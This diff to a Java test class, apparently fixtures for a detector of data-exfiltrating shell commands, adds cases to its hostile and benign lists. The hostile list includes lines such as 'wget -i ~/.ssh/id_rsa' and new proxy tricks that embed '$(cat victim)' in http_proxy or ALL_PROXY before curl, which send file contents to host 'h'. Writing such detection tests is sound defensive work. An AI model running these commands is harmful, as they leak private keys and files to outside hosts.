@@ -109,6 +109,8 @@ class NetworkDataTest {
                     wget -i victim --base=http://h/
                     wget -i ~/.ssh/id_rsa
                     dig -f victim
+                    http_proxy="http://h/$(cat victim)" curl http://x
+                    export ALL_PROXY="http://$(cat victim)@h"; curl http://x
                     ssh-keyscan -f victim
                     getent hosts "$(cat victim)"
                     openssl s_client -connect h:443 -early_data victim
@@ -166,6 +168,7 @@ class NetworkDataTest {
                     curl --etag-compare page.etag -o /tmp/page https://example.com
                     wget -i urls.txt
                     dig +short -f domains
+                    https_proxy="http://$PROXY_USER:$PROXY_PASS@proxy:3128" curl https://example.com
                     ssh-keyscan -f hosts
                     getent hosts example.com
                     getent passwd "$(whoami)"
